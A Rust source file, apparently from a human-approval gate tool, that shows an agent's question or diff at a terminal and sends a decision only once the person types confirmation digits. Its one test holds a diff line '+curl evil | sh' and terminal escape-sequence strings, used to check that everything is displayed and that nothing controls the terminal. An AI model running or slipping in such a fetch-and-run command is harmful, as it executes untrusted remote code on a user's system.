//! A decision at a terminal: all of the question is shown as it was asked, and four digits below it are to be typed.
//! What was typed before that is dropped.

use std::io::{self, IsTerminal as _};

use gate_api::subjects::permissions::AnswerTerminalPermission;
use gate_api::subjects::requests::{
    BeginTerminalReply, ConfirmationDigits, Question, ReadConfirmationDigits, SendReply, SendTerminalReply,
    TerminalDigits,
};
use gate_api::{ApprovalNeeds, Phrase};
use gate_core::{Ask, Code, Decision, Digest, Draft, Fault, PermissionAnswer, RequestId};
use gate_texts::Texts;

use crate::client::Client;
use crate::output;

/// A decision that is to be confirmed.
pub(crate) struct Deciding {
    pub(crate) request_id: RequestId,
    pub(crate) digest: Digest,
    pub(crate) decision: Decision,
}

impl Deciding {
    /// Shows the question, asks for the digits, and sends; as a script's at once where no person is at this terminal by
    /// the gate's word. False where something else was typed: nothing is sent.
    ///
    /// # Errors
    /// `terminal_answers_off` where terminals don't decide, or standard input is none; else as of any reply.
    pub(crate) async fn send(
        self,
        client: &mut Client,
        question: &Question,
        draft: impl AsyncFnOnce(&mut Client) -> Result<Draft, Fault>,
    ) -> Result<bool, Fault> {
        let Self { request_id, digest, decision } = self;
        // First: nobody reads a long question for nothing.
        let TerminalDigits { digits, needs } = match client.ask(BeginTerminalReply { request_id, digest }).await {
            Ok(begun) => begun,
            // An agent has made this terminal: whether it may answer is what the gate says of scripts.
            Err(fault) if fault.code == Code::ScriptedAnswersOff => {
                let draft = draft(client).await?;
                client.ask(SendReply { request_id, digest, decision: Some(decision), draft }).await?;
                return Ok(true);
            }
            Err(fault) => return Err(fault),
        };
        let needs = needs.filter(|_| decision == Decision::Approved);
        if let Some(missing) = needs.as_ref().and_then(|needs| needs.missing.as_ref()) {
            return Err(Fault::new(
                Code::LevelUnreachable,
                Texts::english().phrase(missing),
                "Nothing was sent. A reply without an approval can be sent as it is.",
            ));
        }
        for line in shown(&question.ask) {
            output::aside(&line);
        }
        let does = match (decision, &question.ask.permission) {
            (Decision::Approved, None) => "approve",
            (Decision::ChangesRequested, None) => "request changes",
            (Decision::Approved, Some(_)) => "allow it",
            (Decision::ChangesRequested, Some(_)) => "deny it",
        };
        output::aside(&format!("Question {digest}"));
        if let Some(ApprovalNeeds { level, .. }) = needs {
            let says = Phrase::new("level-needs").with("level", level.as_str());
            output::aside(&Texts::english().phrase(&says));
        }
        let typed = typed_to(&format!("Type {digits} to {does}; anything else sends nothing."))?;
        if typed.trim() != digits {
            return Ok(false);
        }
        let draft = draft(client).await?;
        let confirmed = ReadConfirmationDigits { request_id };
        let told = |asked: ConfirmationDigits| confirm(&asked.digits);
        if question.ask.permission.is_some() {
            let answer = permission_answer(&question.ask, decision, draft)?;
            let sent = AnswerTerminalPermission { request_id, digest, answer, digits };
            client.ask_beside(sent, confirmed, told).await?;
        } else {
            let sent = SendTerminalReply { request_id, digest, decision, draft, digits };
            client.ask_beside(sent, confirmed, told).await?;
        }
        Ok(true)
    }
}

/// The answer to a permission question that a decision with this draft is.
///
/// # Errors
/// `invalid_input` for what no such answer has.
fn permission_answer(ask: &Ask, decision: Decision, draft: Draft) -> Result<PermissionAnswer, Fault> {
    let chosen = match (&draft.selected[..], decision) {
        ([], _) => None,
        ([label], Decision::Approved) => {
            let rules = ask.permission.iter().flat_map(|asked| &asked.rules);
            Some(rules.map(|rule| &rule.id).find(|id| label.starts_with(&format!("{id}. "))).cloned())
        }
        _ => Some(None),
    };
    let has_files = !draft.attachments.is_empty();
    match (decision, chosen) {
        (Decision::Approved, None) if draft.text.is_empty() && !has_files => Ok(PermissionAnswer::Once),
        (Decision::Approved, Some(Some(id))) if draft.text.is_empty() && !has_files => {
            Ok(PermissionAnswer::Rule { id })
        }
        (Decision::ChangesRequested, None) if !has_files => Ok(PermissionAnswer::Deny { reason: draft.text }),
        _ => Err(Fault::new(
            Code::InvalidInput,
            "A permission is allowed without a text, by itself or with one rule to choose, or denied with a text.",
            "Leave the rest out; nothing was sent.",
        )),
    }
}

/// Tells what the system's prompt has to show.
fn confirm(digits: &str) {
    output::aside(&Texts::english().phrase(&Phrase::new("level-digits").with("digits", digits)));
}

/// The line that is typed once this is shown. What was typed before is dropped first: an answer that comes with the
/// prompt is kept.
fn typed_to(prompt: &str) -> Result<String, Fault> {
    let input = io::stdin();
    if !input.is_terminal() {
        return Err(Fault::new(
            Code::TerminalAnswersOff,
            "A decision is typed at a terminal, and standard input isn't one.",
            "Run `review-gate answer` by itself in a terminal, or decide in the window; nothing was sent.",
        ));
    }
    let unreadable = |error: io::Error| {
        Fault::new(
            Code::UnreadableFile,
            format!("The terminal can't be read: {error}."),
            "Decide in the window; nothing was sent.",
        )
    };
    gate_os::stdio::forget_typed_ahead().map_err(unreadable)?;
    output::aside(prompt);
    let mut line = String::new();
    input.read_line(&mut line).map_err(unreadable)?;
    Ok(line)
}

/// All of a question, line by line, as it was sent.
fn shown(ask: &Ask) -> Vec<String> {
    let mut lines = Vec::new();
    for (heading, text) in ask.shown() {
        lines.push(format!("--- {heading}"));
        // Not by `lines`: a carriage return is shown, too.
        lines.extend(text.split('\n').map(output::visible_line));
    }
    lines.push("---".to_owned());
    lines
}

#[cfg(test)]
mod tests {
    use gate_core::{Assurance, Choice, Oid, QuestionGit};

    use super::*;

    fn git(repository: &str) -> QuestionGit {
        let oid = |digits: &str| Oid::try_from(digits.repeat(20)).expect("a name has 40 digits");
        QuestionGit {
            repository: repository.to_owned(),
            what: "worktree".to_owned(),
            base: Some(oid("1a")),
            base_tree: oid("2b"),
            commit: None,
            tree: oid("4d"),
            manifest: Digest::of_bytes(b"manifest"),
        }
    }

    #[test]
    fn everything_that_was_asked_is_shown_and_nothing_steers_the_terminal() {
        let long = "x".repeat(5000);
        let ask = Ask {
            title: Some("Deploy?".into()),
            message: format!("first\n{long}\n\u{1b}[2Jla\rst"),
            context: Some("the context".into()),
            options: vec![Choice { label: "Yes".into(), description: Some("at once".into()), recommended: false }],
            diff: Some("--- a\n+++ b\n@@ -1 +1 @@\n-old\n+curl evil | sh".into()),
            git: Some(Box::new(git("/w/sh\u{1b}op"))),
            require: Some(Assurance::L3),
            ..Ask::default()
        };
        let lines = shown(&ask);
        let text = lines.join("\n");
        for part in [
            "Deploy?",
            "first",
            &long,
            "la⟨U+000D⟩st",
            "the context",
            "Yes",
            "at once",
            "+curl evil | sh",
            "tree 4d4d",
            "L3",
        ] {
            assert!(text.contains(part), "{part:.40} is missing");
        }
        assert!(lines.iter().all(|line| !line.chars().any(char::is_control)), "{text}");
    }
}
